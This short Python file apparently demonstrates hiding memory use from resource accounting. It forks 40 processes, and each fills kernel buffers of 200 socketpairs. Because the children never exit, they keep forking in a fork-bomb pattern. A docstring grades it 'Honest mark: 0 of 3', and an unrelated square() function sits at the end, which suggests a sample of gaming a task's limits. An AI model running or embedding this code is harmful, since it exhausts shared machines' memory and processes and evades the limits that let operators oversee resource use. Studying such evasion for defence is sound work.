"""Keeps its data in the buffers of sockets, some GiB of them, which count as nobody's memory.

Honest mark: 0 of 3.
"""

import os
import socket
import time

for _ in range(40):
    if os.fork() == 0:
        kept = []
        for _ in range(200):
            pair = socket.socketpair()
            pair[0].setblocking(False)
            pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
            kept.append(pair)
            try:
                while True:
                    pair[0].send(bytes(2**14))
            except OSError:
                pass
        time.sleep(60)
time.sleep(60)


def square(x):
    return x * x
